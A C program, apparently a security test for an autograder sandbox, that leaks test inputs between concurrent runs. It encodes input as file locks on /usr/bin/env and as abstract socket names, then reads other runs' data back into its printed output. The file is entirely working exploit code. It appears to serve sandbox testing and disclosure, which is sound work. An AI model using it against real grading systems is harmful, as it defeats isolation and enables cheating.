/* A student's program that signals between concurrent runs of its own submission (issue 31,
 * attack 1). It reads its input (all of stdin), then for about two seconds
 *   - publishes it: a read lock on one byte of /usr/bin/env per input character (POSIX
 *     record locks; offset 4096 + 256 * position + character), an OFD lock the same way at
 *     offset 1 << 20 + ..., and an abstract socket name "@gradeleak-HEX" (HEX: the input);
 *   - reads what the other runs published: F_GETLK / F_OFD_GETLK over those offsets (a
 *     process does not see its own POSIX locks; its own OFD locks are skipped by comparing
 *     with what it published) and the names in /proc/net/unix;
 * and prints what it found: "LOCK-LEAK text", "OFD-LEAK text", "NAME-LEAK text", then
 * "scan done". A correct program's output it is not: the case fails, but its output is in the
 * report, which is the channel. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAX 40
#define FILE_TO_LOCK "/usr/bin/env"

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void lock_byte(int fd, int cmd, off_t at) {
    struct flock l = {0};
    l.l_type = F_RDLCK;
    l.l_whence = SEEK_SET;
    l.l_start = at;
    l.l_len = 1;
    fcntl(fd, cmd, &l);
}

static int locked(int fd, int cmd, off_t at) {
    struct flock l = {0};
    l.l_type = F_WRLCK;
    l.l_whence = SEEK_SET;
    l.l_start = at;
    l.l_len = 1;
    if (fcntl(fd, cmd, &l) != 0) return 0;
    return l.l_type != F_UNLCK;
}

/* The text encoded at `base` by another run ("" if none). */
static void scan(int fd, int cmd, off_t base, char *found) {
    char text[MAX + 1] = {0};
    for (int i = 0; i < MAX; i++) {
        int hit = 0;
        for (int c = 33; c < 127 && !hit; c++) {
            if (locked(fd, cmd, base + 256 * i + c)) {
                text[i] = (char)c;
                hit = 1;
            }
        }
        if (!hit) break;
    }
    if (strlen(text) > strlen(found)) strcpy(found, text);
}

static void scan_names(const char *own, char *found) {
    FILE *f = fopen("/proc/net/unix", "r");
    if (!f) return;
    char line[512];
    while (fgets(line, sizeof line, f)) {
        char *at = strstr(line, "@gradeleak-");
        if (!at) continue;
        at += strlen("@gradeleak-");
        at[strcspn(at, " \n")] = 0;
        if (strcmp(at, own) == 0) continue;
        char text[MAX + 1] = {0};
        for (size_t i = 0; i + 1 < strlen(at) && i / 2 < MAX; i += 2) {
            unsigned v;
            sscanf(at + i, "%2x", &v);
            text[i / 2] = (char)v;
        }
        if (strlen(text) > strlen(found)) strcpy(found, text);
    }
    fclose(f);
}

int main(void) {
    char input[MAX + 1] = {0};
    char line[256];
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\r\n")] = 0;
        for (char *p = line; *p && strlen(input) < MAX; p++)
            if (*p > 32 && *p < 127) input[strlen(input)] = *p;
    }
    int fd = open(FILE_TO_LOCK, O_RDONLY);
    int ofd = open(FILE_TO_LOCK, O_RDONLY);
    for (size_t i = 0; i < strlen(input); i++) {
        lock_byte(fd, F_SETLK, 4096 + 256 * i + (unsigned char)input[i]);
        lock_byte(ofd, F_OFD_SETLK, (1 << 20) + 256 * i + (unsigned char)input[i]);
    }
    char hex[2 * MAX + 1] = {0};
    for (size_t i = 0; i < strlen(input); i++) sprintf(hex + 2 * i, "%02x", (unsigned char)input[i]);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    int n = snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "gradeleak-%s", hex);
    bind(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n);
    listen(s, 1);

    char lock_leak[MAX + 1] = {0}, ofd_leak[MAX + 1] = {0}, name_leak[MAX + 1] = {0};
    double end = now() + 2.0;
    while (now() < end) {
        scan(fd, F_GETLK, 4096, lock_leak);
        scan(ofd, F_OFD_GETLK, 1 << 20, ofd_leak);
        scan_names(hex, name_leak);
    }
    if (*lock_leak) printf("LOCK-LEAK %s\n", lock_leak);
    if (*ofd_leak) printf("OFD-LEAK %s\n", ofd_leak);
    if (*name_leak) printf("NAME-LEAK %s\n", name_leak);
    printf("scan done\n");
    return 0;
}
